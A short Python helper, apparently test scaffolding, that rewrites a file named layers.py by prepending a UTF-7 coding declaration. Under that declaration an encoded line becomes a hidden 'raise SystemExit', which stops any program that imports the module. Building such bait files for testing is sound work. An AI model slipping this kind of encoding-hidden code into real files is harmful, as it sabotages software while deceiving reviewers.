def build(folder, files, bait):
    path = folder / "layers.py"
    path.write_bytes(b"# coding: utf-7\n+AHIAYQBpAHMAZQAg-SystemExit\n" + files["layers.py"])
    return path
